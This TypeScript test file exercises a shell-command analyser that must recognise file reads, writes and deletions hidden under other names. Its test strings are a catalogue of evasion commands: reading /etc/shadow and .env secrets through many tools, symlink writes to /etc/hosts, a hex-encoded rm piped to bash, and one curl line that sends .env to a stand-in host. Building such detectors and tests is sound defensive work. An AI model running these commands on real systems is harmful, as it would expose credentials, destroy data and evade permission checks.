/** Files and programs under other names: what was found by rewriting commands until something was no longer seen. */
import { describe, expect, it } from 'vitest'
import { showString } from '../../../../runtime/decide/abstract-string.js'
import { analyse } from '../../../../runtime/shell/analyse.js'

function filesOf(command: string): readonly string[] {
  const { files } = analyse({ command, cwd: '/proj', home: '/home/user', projectRoot: '/proj', user: 'user' })
  return files.map(({ operation, path }) => `${operation} ${showString(path)}`)
}

describe('files under other names', () => {
  it.each([
    ['cat /proc/self/root/etc/shadow', 'read /etc/shadow'],
    ['cat /proc/self/root/proc/self/environ', 'read /proc/self/environ'],
    ['cat /proc/$$/cwd/.env', 'read /proj/.env'],
    ['cd /tmp; cat /proc/self/cwd/x', 'read /tmp/x'],
    ['ln -s /etc/hosts l; tee l', 'write /etc/hosts'],
    ['ln /etc/hosts l; tee l', 'write /etc/hosts'],
    ['ln -s /etc/hosts l; ln -s l m; echo x > m', 'write /etc/hosts'],
    ['ln -s / l; echo x > l/etc/hosts', 'write /etc/hosts'],
    ['ln -s /etc l; rm l/hosts', 'delete /etc/hosts'],
    ['echo x > .e{n..n}v', 'write /proj/.env'],
    ['echo x > {.env,}', 'write /proj/.env'],
    ["printf '%s\\n' i x . 'w .env' q | ed -s", 'write /proj/.env'],
    ["vim -es -c 'r .env' -c q", 'read /proj/.env'],
    ["sqlite3 x.db '.output .env'", 'write /proj/.env'],
    ['ar p x.pem', 'read /proj/x.pem'],
    ['man -l .env', 'read /proj/.env'],
    ['node --env-file=.env -p 1', 'run /proj/.env'],
    ['cmake -E cat .env', 'read /proj/.env'],
    ["find x -execdir unlink '{}' ';'", 'delete /proj/x'],
    ['echo : > f; BASH_ENV=f bash -c :', 'read /proj/f'],
    ['cat $(find . -name .env)', 'read /proj⟨path⟩/.env'],
    ['find . -name .env | xargs cat', 'read /proj⟨path⟩/.env'],
    ['find . -path "./.env" -o -name x | xargs cat', 'read /proj⟨path⟩/.env'],
    ['$TAR --remove-files -cf /dev/null x', 'delete /proj/x'],
    ['$CXX -o y y.cc', 'write /proj/y'],
    ['find . -name .env -print0 | xargs -0 -I{} cat {}', 'read /proj⟨path⟩/.env'],
    ['find . -name .env | while read -r f; do cat "$f"; done', 'read /proj⟨path⟩/.env'],
    ['for f in $(find . -name .env); do cat $f; done', 'read /proj⟨path⟩/.env'],
    ['cat $(ls -d .env)', 'read /proj/.env'],
    ['tee "$(realpath /etc/hosts)"', 'write /etc/hosts'],
    ["ssh me@localhost 'rm a; cd /proj; rm x'", 'delete /proj/x'],
    ['ssh 127.0.0.1 rm a', 'delete /home/user/a'],
    ['tee "$(realpath ../proj/x)"', 'write /proj/x'],
    ['tee "$(realpath -m -- ../../etc/../etc/x)"', 'write /etc/x'],
    ['tee "$(realpath -m -- ../../etc/../etc/x)"', 'write ⟨any⟩'],
    ['tee "$(realpath /usr/../proj/x)"', 'write /proj/x'],
    ['tee "$(readlink -e ./x)"', 'write /proj/x'],
    ['d=$(readlink /proc/self/cwd); cd /; tee "$d/x"', 'write /proj/x'],
    ['d=$(readlink -f /proc/$$/cwd); cd /; tee "$d/x"', 'write /proj/x'],
    ['d=$(/bin/pwd); cd /; tee "$d/x"', 'write /proj/x'],
    ['d=$(dirs -l); cd /; tee "$d/x"', 'write /proj/x'],
    ['cd /; tee "$(git -C /proj rev-parse --show-toplevel)/x"', 'write /proj/x'],
    ['CDPATH=/a:/etc; cd b; tee x', 'write /etc/b/x'],
    ['CDPATH=/etc cd b; tee x', 'write /etc/b/x'],
    ['CDPATH=:/etc bash -c "cd b; tee x"', 'write /proj/b/x'],
    ['tee "$(readlink x)"', 'write ⟨any⟩'],
    ['tee "$(realpath --relative-to=/ x)"', 'write ⟨any⟩'],
    ['tee "$(dirname "$Z/a/b")/$(basename "$Z/.env")"', 'write ⟨any⟩/a/.env'],
    ['rm $(basename -s .c a/x.c b/y.c)', 'delete /proj/x'],
    ['rm $(basename -a a/x.c b/y.c)', 'delete /proj/y.c'],
    ['rm $(dirname a/x b/y)', 'delete /proj/b'],
    ['cat "$(readlink -f .env)"', 'read /proj/.env'],
    ['tar --remove-files -cf /dev/null x', 'delete /proj/x'],
    ["capsh -- -c 'rm x'", 'delete /proj/x'],
    ['parallel dd if=/dev/zero ::: of=y', 'write /proj/y'],
    ["ssh -o PermitLocalCommand=yes -o 'LocalCommand=if true; then rm x; fi' h", 'delete /proj/x'],
    ["git -c 'alias.x=!if true; then rm x; fi' x", 'delete /proj/x'],
    ["mapfile -d '' q < <(printf %s ':\nrm x'); eval \"$q\"", 'delete /proj/x'],
    ["find . -maxdepth 0 -execdir rm x ';'", 'delete /proj/x'],
    ['cat $(basename a/.env)', 'read /proj/.env'],
    ['rm "x`basename`"', 'delete /proj/x'],
    ['rm x$(find . -exec dirname {}\\; y)', 'delete /proj/x'],
    ["a='\\056env'; cat ${a@P}", 'read /proj/.env'],
    ['cmake -E remove x', 'delete /proj/x'],
    ['/proc/self/exe -c "rm x"', 'delete /proj/x'],
    ['/proc/$$/exe -c "rm x"', 'delete /proj/x'],
    ['yarn exec "rm x"', 'delete /proj/x'],
    ['bun exec "rm x"', 'delete /proj/x'],
    ["yarn node -e \"require('fs').rmSync('x')\"", 'delete /proj/x'],
    ['echo 726d20007800 | xxd -r -p | bash', 'delete /proj/x'],
    ["shopt -s expand_aliases\nalias a='command '\nalias b=unlink\na b x\n", 'delete /proj/x'],
    ['echo .env | tee l; cat $(cat l)', 'read /proj/.env'],
    ['dd of=l <<< .env; cat $(<l)', 'read /proj/.env'],
    ['echo .env > l; cp l m; cat $(cat m)', 'read /proj/.env'],
    ["install -m755 /dev/stdin z <<< 'rm x'; ./z", 'delete /proj/x'],
    ['git check-ignore .env | xargs cat', 'read /proj/.env'],
    ['git ls-files .env | xargs cat', 'read /proj/.env'],
    ['git config --blob HEAD:.env -l', 'read /proj/.env'],
    ['yq -n \'load_str(".env")\'', 'read /proj/.env'],
    ['restic backup .env', 'read /proj/.env'],
    ['aws sts x --cli-input-json file://.env', 'read /proj/.env'],
    ['clickhouse local -q "select * from file(\'.env\', LineAsString)"', 'read /proj/.env'],
    ["duckdb -c '.sh rm x'", 'delete /proj/x'],
    ['duckdb -csv -c "from read_text(\'.env\')"', 'read /proj/.env'],
    ['php -d auto_prepend_file=.env -r 1', 'read /proj/.env'],
    ['zip -rm a.zip x', 'delete /proj/x'],
    ['7z a -sdel a.7z x', 'delete /proj/x'],
    ['rar m a.rar x', 'delete /proj/x'],
    ['tar --remove -cf a.tar x', 'delete /proj/x'],
    ['TAR_OPTIONS=--remove-files tar cf a.tar x', 'delete /proj/x'],
    ['ZIPOPT=-m zip a.zip x', 'delete /proj/x'],
    ['rsync --remove-source-files x h:', 'delete /proj/x'],
    ['rclone purge x', 'delete /proj/x'],
    ['rclone sync e x', 'delete /proj/x'],
    ['tmpreaper 0 x', 'delete /proj/x'],
    ['hg --config extensions.purge= purge x', 'delete /proj/x'],
    ['svn cleanup --remove-unversioned', 'delete /proj'],
    ['ruby -run -e rm -- -rf x', 'delete /proj/x'],
    ['perl -we \'use POSIX; POSIX::remove("x")\'', 'delete /proj/x'],
    ['FZF_DEFAULT_OPTS="--preview \'rm x\'" fzf', 'delete /proj/x'],
    ["dialog --prgbox text 'rm x' 10 40", 'delete /proj/x'],
    ["newgrp docker <<< 'rm x'", 'delete /proj/x'],
    ['c8 -r html rm x', 'delete /proj/x'],
    ['hatch -e y run test:rm x', 'delete /proj/x'],
    ['tox exec -e py -- rm x', 'delete /proj/x'],
    ['pixi exec -s y rm x', 'delete /proj/x'],
    ['nix run nixpkgs#busybox -- rm x', 'delete /proj/x'],
    ["pnpm -c exec 'rm x'", 'delete /proj/x'],
    ["npm config edit --editor='rm x'", 'delete /proj/x'],
    ['bundle exec rails runner \'File.delete("x")\'', 'delete /proj/x'],
    ['python manage.py shell -c \'import os; os.remove("x")\'', 'delete /proj/x'],
    ['php artisan tinker --execute=\'unlink("x");\'', 'delete /proj/x'],
    ['deno repl --eval \'Deno.removeSync("x")\'', 'delete /proj/x'],
    ['babel-node -e \'require("fs").unlinkSync("x")\'', 'delete /proj/x'],
    ["r2 -qc '!rm x' -", 'delete /proj/x'],
    ["certbot --pre-hook 'rm x'", 'delete /proj/x'],
    ["murex -c 'rm x'", 'delete /proj/x'],
    ['GLOBIGNORE=x; cat *', 'read /proj/⟨char⟩⟨name⟩'],
    ['curl file:///proj/%2eenv', 'read /proj/.env'],
    ['curl --url-query x@.env http://h', 'read /proj/.env'],
    ['locate .env | xargs cat', 'read ⟨any⟩/⟨name⟩.env⟨name⟩'],
    ['launchctl submit -l y -- rm x', 'delete /proj/x'],
    ['python3 -m code <<< \'import os; os.remove("x")\'', 'delete /proj/x'],
    ['python3 -m idlelib -c \'import os; os.remove("x")\'', 'delete /proj/x'],
    ['mkdir y; echo "import os; os.remove(\'x\')" > y/__main__.py; python3 y', 'delete /proj/x'],
    ['mkdir y; echo "import os; os.remove(\'x\')" > y/__main__.py; python3 -m y', 'delete /proj/x'],
    ['mkdir y; echo "import os; os.remove(\'x\')" > y/__init__.py; python3 -c "import y"', 'delete /proj/x'],
    ["echo \"require('fs').rmSync('x')\" > index.js; node .", 'delete /proj/x'],
    ['git rev-parse HEAD:.env | xargs git cat-file -p', 'read /proj/.env'],
    ['git cat-file --batch <<< HEAD:.env', 'read /proj/.env'],
    ['git stash show -p stash@{0} -- .env', 'read /proj/.env'],
    ['git log -L1,9:.env', 'read /proj/.env'],
    ['git fast-export HEAD -- .env', 'read /proj/.env'],
    ['podman unshare rm x', 'delete /proj/x'],
    ["ansible localhost -m file -a 'path=x state=absent'", 'delete /proj/x'],
    ["ansible all -i localhost, -c local -a 'cat .env'", 'read /proj/.env'],
    ["salt-call --local cmd.run 'rm x'", 'delete /proj/x'],
    ["printf 'rm x' > /dev/fd/1 | sh", 'delete /proj/x'],
    ["sftp -D 'rm x'", 'delete /proj/x'],
    ['mvn exec:exec -Dexec.executable=rm', 'delete ⟨any⟩'],
    ['composer exec -- rm x', 'delete /proj/x'],
    ['wp eval \'unlink("x");\'', 'delete /proj/x'],
    ['nodemon --exec rm x', 'delete /proj/x'],
    ["BUNDLER_EDITOR='rm x;' bundle open y", 'delete /proj/x'],
    ['node -e \'require("dotenv").config();console.log(process.env)\'', 'read /proj/.env'],
    ["python3 -c 'from dotenv import load_dotenv; load_dotenv(); import os; print(os.environ)'", 'read /proj/.env'],
    ["ruby -rdotenv/load -e 'p ENV'", 'read /proj/.env'],
  ])('%s: %s', (command, expected) => {
    expect(filesOf(command)).toContain(expected)
  })

  it('leaves what a link leads to where the link is deleted', () => {
    expect(filesOf('ln -s /etc/hosts l; rm l')).not.toContain('delete /etc/hosts')
  })

  it('keeps apart what another machine does', () => {
    expect(filesOf('ssh host rm /x; ssh -p 2222 localhost rm /y')).toEqual([])
  })

  it('takes a subcommand of Git for that', () => {
    const { execs } = analyse({
      command: '/usr/lib/git-core/git-push -f',
      cwd: '/proj',
      home: undefined,
      projectRoot: undefined,
      user: undefined,
    })
    expect(execs.map(({ argv }) => argv.map(each => String(each)).join(' '))).toContain('git push -f')
  })

  it('knows that what code reads is not in the code', () => {
    const { unknowns } = analyse({
      command: 'perl -e \'exec "bash", "-c", <STDIN>\'',
      cwd: '/proj',
      home: undefined,
      projectRoot: undefined,
      user: undefined,
    })
    expect(unknowns).not.toEqual([])
  })

  it.each([
    'bb \'(slurp ".env")\'',
    'rclone x; amm -c y',
    'emacsclient -e \'(delete-file "x")\'',
    "echo 'int main(){f();}' > x.c && gcc x.c && ./a.out",
    "echo 'class X {}' > X.java; java X.java",
    "tcc -run - <<< 'int main(){}'",
    'qjs -e \'os.remove("x")\'',
    "dotnet script eval 'x'",
    "m4 <<< 'undivert(.env)'",
    'echo x > Taskfile.yml; task y',
    'echo x > build.rs; cargo build',
    'cargo run --config \'target.x.runner="y"\'',
    "rake -E 'y'",
    "sbt 'eval x'",
    "{ echo 'rm x' >&2; } 2>&1 | sh",
    "mix eval 'x'",
    "iconv -f utf-7 <<< '+AHIAbQ- x' | sh",
    'echo x > Procfile; foreman start',
    'echo x > pyproject.toml; pdm run y',
    'echo x > mise.toml; mise run y',
    'ansible-playbook /dev/stdin <<< y',
    "ansible localhost -a \"msg={{lookup('pipe','y')}}\"",
    'echo x > Vagrantfile; vagrant up',
    'PYTEST_PLUGINS=x pytest',
    'DOTNET_STARTUP_HOOKS=x.dll dotnet run',
  ])('says that it does not know the code: %s', command => {
    expect(analyse({ command, cwd: '/proj', home: undefined, projectRoot: undefined, user: undefined }).unknowns).not.toEqual([])
  })

  it('ends where a start-up file starts a shell', () => {
    const command = 'echo "echo x > y; mv y z; bash z" > f; BASH_ENV=f bash -c :'
    const { unknowns } = analyse({ command, cwd: '/proj', home: undefined, projectRoot: undefined, user: undefined })
    expect(unknowns).not.toEqual([])
  })

  it('says that modules of zsh are not known', () => {
    expect(
      analyse({ command: "zsh -c 'zmodload zsh/files; zf_rm x'", cwd: '/proj', home: undefined, projectRoot: undefined, user: undefined })
        .unknowns,
    ).not.toEqual([])
  })
})
